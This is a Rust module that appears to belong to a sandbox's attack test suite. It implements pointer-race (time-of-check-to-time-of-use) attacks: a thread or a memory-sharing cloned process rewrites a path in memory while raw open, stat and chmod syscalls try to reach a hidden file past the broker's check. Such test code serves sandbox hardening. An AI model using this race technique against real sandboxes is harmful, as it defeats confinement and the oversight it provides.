//! N1, N8: the name in memory changes between the broker's look and its use.

use std::io;
use std::path::Path;
use std::sync::atomic::{AtomicBool, AtomicU32, Ordering};
use std::time::{Duration, Instant};

use super::{NAME, ROW, alone, bait, said, show_size, size_of};
use crate::attack::{Attack, Judge};
use crate::attacks::kernel::{Page, small};
use crate::attacks::proof;
use crate::attacks::raw::{self, sys};
use crate::files;
use crate::stage::Stage;

pub(super) const OPEN: Attack = Attack {
    name: "pointer-race-open",
    what: "opens a hidden file under a name that another thread changes while it is looked at",
    prepare: |stage| {
        stage.belljar_flags(&["--trace"]);
        let bait = prepared(stage)?;
        Ok(files::not_printed(bait.canary))
    },
    attack: |args| {
        threaded(args, |path| {
            let fd = raw::fd(sys!(SYS_open, path, libc::O_RDONLY))?;
            let mut text = [0u8; 64];
            match sys!(SYS_read, std::os::fd::AsRawFd::as_raw_fd(&fd), &mut text, text.len())? {
                0 => Err(io::Error::other("the empty file")),
                _ => raw::print(&text),
            }
        })
    },
    ..ROW
};

pub(super) const SIZE: Attack = Attack {
    name: "pointer-race-stat",
    what: "learns the size of a hidden file by a name that another thread changes while it is looked at",
    prepare: |stage| {
        alone(stage);
        Ok(files::not_printed(said(prepared(stage)?.size)))
    },
    attack: |args| threaded(args, |path| show_size(size_of(path)?)),
    fault: "continue",
    ..ROW
};

pub(super) const MODE: Attack = Attack {
    name: "pointer-race-chmod",
    what: "changes the mode of a hidden file by a name that another thread changes while it is looked at",
    prepare: mode,
    attack: |args| threaded(args, again),
    fault: "continue",
    ..ROW
};

pub(super) const PROCESS: Attack = Attack {
    id: "N8",
    name: "pointer-race-shared-memory",
    what: "the same by a process that shares memory and descriptors with the one that is looked at",
    attack: by_process,
    ..MODE
};

fn mode(stage: &mut Stage) -> io::Result<Judge> {
    alone(stage);
    files::untouched(&prepared(stage)?.hidden)
}

fn prepared(stage: &mut Stage) -> io::Result<super::Bait> {
    let bait = bait(stage)?;
    stage.race();
    let folder = bait.open.parent().and_then(Path::parent).unwrap_or(&bait.open).to_owned();
    stage.path_arg(&folder);
    Ok(bait)
}

/// A path of which one store changes the folder: `work` or `host`.
struct Path32 {
    words: Vec<AtomicU32>,
    folder: usize,
}

impl Path32 {
    fn new(stage: &str) -> Path32 {
        // Slashes in front, so that the folder's four letters are one word of memory.
        let mut text = "/".repeat(4 - (stage.len() + 1) % 4);
        text.push_str(stage);
        text.push('/');
        let folder = text.len() / 4;
        text.push_str(&format!("work/{NAME}\0\0\0\0"));
        let words = text.as_bytes().chunks_exact(4).map(|four| AtomicU32::new(word(four))).collect();
        Path32 { words, folder }
    }

    fn flip(&self, until: &AtomicBool) {
        let Some(folder) = self.words.get(self.folder) else { return };
        while !until.load(Ordering::Relaxed) {
            for name in [b"host", b"work"] {
                folder.store(word(name), Ordering::Relaxed);
                for _ in 0..64 {
                    std::hint::spin_loop();
                }
            }
        }
    }

    fn address(&self) -> *const u8 {
        self.words.as_ptr().cast()
    }
}

fn word(four: &[u8]) -> u32 {
    four.try_into().map_or(0, u32::from_ne_bytes)
}

/// Tries until one attempt succeeds or the time is over; a thread changes the name meanwhile.
fn threaded(args: &[String], attempt: fn(*const u8) -> io::Result<()>) -> io::Result<()> {
    let path = Path32::new(proof::arg(args, 1)?);
    let stop = AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| path.flip(&stop));
        let done = attempts(args, || attempt(path.address()));
        stop.store(true, Ordering::Relaxed);
        done
    })
}

fn attempts(args: &[String], attempt: impl Fn() -> io::Result<()>) -> io::Result<()> {
    let end = Instant::now() + Duration::from_millis(proof::number(args, 0)?);
    let mut last = Err(io::Error::other("no time"));
    while last.is_err() && Instant::now() < end {
        last = attempt();
    }
    last
}

/// The judge sees the mode, the attack does not: on to the next attempt.
fn again(path: *const u8) -> io::Result<()> {
    sys!(SYS_chmod, path, 0o640)?;
    Err(io::Error::other("perhaps"))
}

fn by_process(args: &[String]) -> io::Result<()> {
    let path = Path32::new(proof::arg(args, 1)?);
    let both = libc::PROT_READ | libc::PROT_WRITE;
    let stack = Page::new(1 << 16, both, libc::MAP_PRIVATE)?;
    let top = std::ptr::with_exposed_provenance_mut((stack.address() + (1 << 16)) as usize);
    // SAFETY: the stack is new, and `path` outlives the process, which is ended below.
    let pid = unsafe {
        libc::clone(
            forever,
            top,
            libc::CLONE_VM | libc::CLONE_FILES | libc::SIGCHLD,
            (&raw const path).cast_mut().cast(),
        )
    };
    let done = attempts(args, || again(path.address()));
    sys!(SYS_kill, small(usize::try_from(pid).map_err(io::Error::other)?)?, libc::SIGKILL)?;
    done
}

extern "C" fn forever(path: *mut libc::c_void) -> libc::c_int {
    // SAFETY: the parent keeps the path until this process is gone.
    let path: &Path32 = unsafe { &*path.cast() };
    path.flip(&AtomicBool::new(false));
    0
}
